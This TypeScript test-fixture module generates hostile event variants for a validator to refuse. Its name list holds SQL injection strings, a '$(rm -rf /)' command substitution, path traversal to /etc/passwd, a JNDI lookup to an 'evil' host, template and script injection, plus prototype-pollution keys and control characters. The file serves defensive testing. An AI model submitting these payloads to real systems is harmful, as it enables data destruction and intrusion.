import type { Topic } from './hostile-world.ts';

interface FamilyMember {
  readonly what: string;
  readonly topic: Topic;
  readonly event: Readonly<Record<string, unknown>>;
  readonly code: string;
  readonly field: string;
}

/** An event that would be taken, for families to spoil. */
interface Sound {
  readonly type: string;
  readonly topic: Topic;
  readonly data: Readonly<Record<string, unknown>>;
  /** Fields of names, by which tables, queues and hosts are addressed. */
  readonly names: readonly string[];
  /** Fields of one line of text. */
  readonly lines: readonly string[];
}

const sound: readonly Sound[] = [
  {
    type: 'batch-move.requested',
    topic: 'requests',
    data: { reason: 'test', host: 'h1', target: 'h2', policy: { roles: 'copy' } },
    names: ['host', 'target'],
    lines: ['reason'],
  },
  {
    type: 'endpoint.registered',
    topic: 'requests',
    data: { name: 'new', host: 'h1', database: 'new', labels: { tier: 'gold' }, pin: 'h1' },
    names: ['name', 'host', 'pin'],
    lines: ['database'],
  },
  {
    type: 'endpoint.changed',
    topic: 'requests',
    data: { name: 'shop', labels: { tier: 'gold' } },
    names: ['name'],
    lines: [],
  },
  {
    type: 'host.registered',
    topic: 'host-changes',
    data: { name: 'h9', driver: 'simulated', url: 'sim://here/s9', zone: 'z1', options: { a: { b: 1 } } },
    names: ['name'],
    lines: ['zone', 'url', 'driver'],
  },
  {
    type: 'host.cordoned',
    topic: 'host-changes',
    data: { host: 'h1', reason: 'test' },
    names: ['host'],
    lines: ['reason'],
  },
  {
    type: 'host.draining',
    topic: 'host-changes',
    data: { host: 'h1', target: 'h2', reason: 'test', policy: { retention: 'PT1H' } },
    names: ['host', 'target'],
    lines: ['reason'],
  },
  {
    type: 'host.changed',
    topic: 'host-changes',
    data: { host: 'h1', zone: 'z2', labels: { rack: '7' } },
    names: ['host'],
    lines: ['zone'],
  },
  {
    type: 'host.failed',
    topic: 'host-changes',
    data: { host: 'h1', reason: 'test' },
    names: ['host'],
    lines: ['reason'],
  },
  {
    type: 'host.recovered',
    topic: 'host-changes',
    data: { host: 'h1', reason: 'test' },
    names: ['host'],
    lines: ['reason'],
  },
  {
    type: 'host.removed',
    topic: 'host-changes',
    data: { host: 'h1', reason: 'test' },
    names: ['host'],
    lines: ['reason'],
  },
];

const wrongTypes: readonly unknown[] = [null, true, 7, [], {}, ['h1'], { $ne: null }];

const hostileNames: readonly string[] = [
  '',
  ' ',
  "h1'; DROP TABLE hosts; --",
  'h1" OR "1"="1',
  'h1; SELECT pg_terminate_backend(1)',
  '$(rm -rf /)',
  '`id`',
  '../../etc/passwd',
  'h1/../h2',
  'HOST#h1',
  '%00',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '-rf',
  '_h1',
  'h\u0131',
  'x'.repeat(101),
];

const unprintables: readonly (readonly [string, string, string])[] = [
  ['a NUL', 'a\u0000b', 'text-unprintable'],
  ['a bell', 'a\u0007b', 'text-unprintable'],
  ['an escape', '\u001b]0;x\u0007', 'text-unprintable'],
  ['a delete', 'a\u007fb', 'text-unprintable'],
  ['a C1 control', 'a\u0085b', 'text-unprintable'],
  ['an end of line', 'a\nb', 'text-unprintable'],
  ['a separator of lines', 'a\u2028b', 'text-unprintable'],
  ['a turn of the direction', 'a\u202eb', 'text-unprintable'],
  ['an isolate', 'a\u2066b', 'text-unprintable'],
  ['half of a character', 'a\ud800b', 'text-malformed'],
];

const prototypeKeys = ['__proto__', 'constructor', 'prototype'] as const;

/** Whole families of events that must be refused. */
export function hostileFamilies(): readonly FamilyMember[] {
  return sound.flatMap((base) => [
    ...base.names.flatMap((name) => [
      ...wrongTypes.map((value) => spoil(base, name, value, 'field-invalid')),
      ...hostileNames.map((value) => spoil(base, name, value, 'field-invalid')),
    ]),
    ...[...base.names, ...base.lines].flatMap((name) =>
      unprintables.map(([what, value, code]) => spoil(base, name, value, code, what)),
    ),
    ...objectsIn(base.data, ['data']).flatMap((path) =>
      prototypeKeys.map((key) => ({
        what: `${base.type} with ${key} below ${path.join('.')}`,
        topic: base.topic,
        event: { type: base.type, data: planted(base.data, path.slice(1), key, { admin: true }) },
        code: 'key-forbidden',
        field: [...path, key].join('.'),
      })),
    ),
    {
      what: `${base.type} with a field of tomorrow`,
      topic: base.topic,
      event: { type: base.type, data: { ...base.data, tomorrow: 1 } },
      code: 'field-unknown',
      field: 'data.tomorrow',
    },
  ]);
}

function spoil(base: Sound, name: string, value: unknown, code: string, what?: string): FamilyMember {
  return {
    what: `${base.type} whose ${name} is ${what ?? JSON.stringify(value)}`.slice(0, 120),
    topic: base.topic,
    event: { type: base.type, data: { ...base.data, [name]: value } },
    code,
    field: `data.${name}`,
  };
}

/** The paths of all objects in a value, itself included. */
function objectsIn(value: unknown, path: readonly string[]): (readonly string[])[] {
  if (typeof value !== 'object' || value === null) return [];
  return [path, ...Object.entries(value).flatMap(([key, item]) => objectsIn(item, [...path, key]))];
}

/** A copy with one more own key, which may be one that an assignment would not make. */
function planted(
  value: Readonly<Record<string, unknown>>,
  path: readonly string[],
  key: string,
  item: unknown,
): Record<string, unknown> {
  const copy: Record<string, unknown> = structuredClone({ ...value });
  let at: object = copy;
  for (const part of path) {
    const next: unknown = Object.getOwnPropertyDescriptor(at, part)?.value;
    if (typeof next === 'object' && next !== null) at = next;
  }
  Object.defineProperty(at, key, { value: item, enumerable: true, configurable: true, writable: true });
  return copy;
}
